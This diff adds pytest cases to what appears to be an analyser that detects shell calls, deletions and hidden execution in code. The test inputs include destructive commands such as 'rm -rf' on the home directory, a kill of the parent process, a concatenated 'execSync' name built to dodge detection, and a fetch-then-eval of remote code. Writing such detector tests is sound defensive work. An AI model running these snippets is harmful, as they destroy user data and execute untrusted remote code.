@@ -76,3 +76,29 @@ def test_a_program_joined_to_a_connection_is_seen() -> None:
 )
 def test_code_that_decodes_and_runs_is_hidden(code: str) -> None:
     assert uses_of(code).hidden
+
+
+@pytest.mark.parametrize(
+    ("code", "script"),
+    [
+        ("const {execSync: x} = require('child_process'); x('rm -rf ' + process.env.HOME)", "rm -rf ~"),
+        ("require('child_process')['ex' + 'ecSync']('ls')", "ls"),
+        ("const d = '/a'; require('child_process').execSync(`rm ${d}/b`)", "rm /a/b"),
+        ("process.kill(process.ppid, 'SIGKILL')", "kill -9 $PPID"),
+        ("Process.kill(9, Process.ppid)", "kill -9 $PPID"),
+        ("kill 9, getppid", "kill -9 $PPID"),
+        ('std::process::Command::new("rm").args(["-rf", "/a"]).status()', "rm '-rf' '/a'"),
+        ('exec.Command("rm", "-rf", "/a").Run()', "rm '-rf' '/a'"),
+    ],
+)
+def test_pieces_are_put_together_before_calls_are_sought(code: str, script: str) -> None:
+    assert script in uses_of(code).scripts
+
+
+def test_joined_paths_are_one() -> None:
+    code = "const p = require('path'); fs.rmSync(p.join(os.homedir(), 'x'), {recursive: true})"
+    assert uses_of(code).deletes == ["~/x/"]
+
+
+def test_code_that_runs_what_another_machine_answers_is_hidden() -> None:
+    assert uses_of("fetch('https://x.example').then(r => r.text()).then(eval)").hidden
